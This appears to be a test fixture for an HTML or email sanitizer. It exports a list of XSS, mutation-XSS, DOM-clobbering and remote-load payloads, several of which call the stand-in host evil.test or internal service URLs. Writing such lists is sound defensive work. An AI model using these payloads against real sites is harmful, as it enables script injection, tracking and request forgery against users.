// SPDX-License-Identifier: AGPL-3.0-or-later
/**
 * Letters that try to run something or to phone home, written from the ideas of public cheat-sheets. Each calls
 * `top.__owned(n)`, opens a dialog, or asks evil.test for something.
 */
const run = 'top.__owned=1;alert(1)';
const ask = 'https://evil.test/x';

export const HOSTILE: readonly string[] = [
  `<script>${run}</script>`,
  `<SCRIPT SRC=${ask}.js></SCRIPT>`,
  `<img src=x onerror="${run}">`,
  `<img src="x" onerror=${run.replaceAll(';', '&#59;')}>`,
  `<svg onload="${run}"></svg>`,
  `<svg><script>${run}</script></svg>`,
  `<svg><animate onbegin="${run}" attributeName=x dur=1s></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${run}&gt;">`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `<iframe src="javascript:${run}"></iframe>`,
  `<iframe srcdoc="<script>${run}</script>"></iframe>`,
  `<object data="javascript:${run}"></object><embed src="${ask}">`,
  `<a href="javascript:${run}" id=j>click</a>`,
  `<a href="jAvAsCrIpT&colon;${run}">click</a>`,
  `<a href="data:text/html,<script>${run}</script>">click</a>`,
  `<form action="${ask}"><input name=a value=b><button id=f>go</button></form>`,
  `<meta http-equiv="refresh" content="0;url=${ask}">`,
  `<base href="${ask}/"><img src="pixel.png">`,
  `<link rel=stylesheet href="${ask}.css"><link rel=prefetch href="${ask}"><link rel="dns-prefetch" href="//evil.test">`,
  `<style>@import '${ask}.css'; body{background:url(${ask}.png)} @font-face{font-family:x;src:url(${ask}.woff)} *{font-family:x}</style>text`,
  `<div style="background:url('${ask}')">a</div><div style="background:\\75rl(${ask})">b</div>`,
  `<table background="${ask}"><tr><td background="${ask}">x</table>`,
  `<video src="${ask}" autoplay poster="${ask}"><source src="${ask}"></video><audio src="${ask}" autoplay></audio>`,
  `<img srcset="${ask} 1x, ${ask} 2x"><picture><source srcset="${ask}"><img src="${ask}"></picture>`,
  `<body onload="${run}" background="${ask}"><p>x`,
  `<input autofocus onfocus="${run}"><details open ontoggle="${run}">x</details>`,
  `<div style="position:fixed;inset:0;z-index:99999;background:red">cover</div>`,
  `<template><img src=x onerror=${run}></template><xmp><img src=x onerror=${run}></xmp>`,
  `<img src="/service/home/~/?id=1&fmt=zip"><img src="/service/soap/NoOpRequest">`,
  `<a ping="${ask}" href="https://example.test/">ping</a>`,
  `<p id="__proto__" name="body">clobber</p><img name="cookie"><form id="list"><input name="attributes"></form>`,
  `<svg><a xlink:href="javascript:${run}"><text y=20>x</text></a><use href="data:image/svg+xml,<svg id=x onload='${run}'/>#x"/></svg>`,
];
